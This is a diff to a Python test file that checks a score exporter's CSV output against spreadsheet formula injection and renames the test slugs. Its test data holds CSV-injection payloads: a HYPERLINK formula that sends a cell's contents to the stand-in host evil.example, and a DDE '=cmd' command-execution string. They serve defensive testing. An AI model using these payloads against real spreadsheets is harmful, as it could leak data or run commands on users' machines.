@@ -320,6 +320,9 @@ def test_csv_cell_neutralises_formulas_and_keeps_numbers(value: object, cell: ob
     assert csv_cell(value) == cell
 
 
+EQ = 'hyperlink-http-evil-example-a1-klicka-2020'  # slugs follow the names
+
+
 @pytest.mark.sphinx('scores', testroot='export', freshenv=True)
 def test_score_csv_carries_no_formula(app) -> None:  # type: ignore[no-untyped-def]
     app.build(force_all=True)
@@ -329,26 +332,26 @@ def test_score_csv_carries_no_formula(app) -> None:  # type: ignore[no-untyped-d
     head, body = rows[0], rows[1:]
     by_slug = {row[0]: dict(zip(head, row, strict=True)) for row in body}
     assert {slug: row['municipality'] for slug, row in by_slug.items()} == {
-        'eq-2020': '\'=HYPERLINK("http://evil.example/?"&A1;"Klicka")',
-        'plus-2021': "'+SUM(1;2)",
-        'minus-2021': "'-2+3",
-        'at-2021': "'@SUM(A1:A2)",
-        'number-2021': '-5',
+        EQ: '\'=HYPERLINK("http://evil.example/?"&A1;"Klicka")',
+        'sum-1-2-2021': "'+SUM(1;2)",
+        '2-3-2021': "'-2+3",
+        'sum-a1-a2-2021': "'@SUM(A1:A2)",
+        '5-2021': '-5',
     }
     for row in body:
         for cell in row:
             assert not cell.startswith(('=', '+', '@', '\t', '\r')), cell
             assert not cell.startswith('-') or re.fullmatch(r'-\d+', cell), cell
     # The numbers stay numbers.
-    eq = by_slug['eq-2020']
+    eq = by_slug[EQ]
     assert [eq[c] for c in ('1.1', '1.2', '2.1', '2.2', '1', '2', 'total')] == [
         '10', '20', '30', '40', '30', '70', '100']
     # The JSON keeps what was written, unchanged.
     data = json.loads((app.outdir / 'scores.json').read_text(encoding='utf8'))
     sources = {e['slug']: (e['municipality'], e['source']) for e in data['evaluations']}
-    assert sources['eq-2020'] == ('=HYPERLINK("http://evil.example/?"&A1;"Klicka")',
-                                  "=cmd|' /C calc'!A0")
-    assert sources['number-2021'] == ('-5', '-1.5')
+    assert sources[EQ] == ('=HYPERLINK("http://evil.example/?"&A1;"Klicka")',
+                           "=cmd|' /C calc'!A0")
+    assert sources['5-2021'] == ('-5', '-1.5')
 
 
 # --- make lint -----------------------------------------------------------------
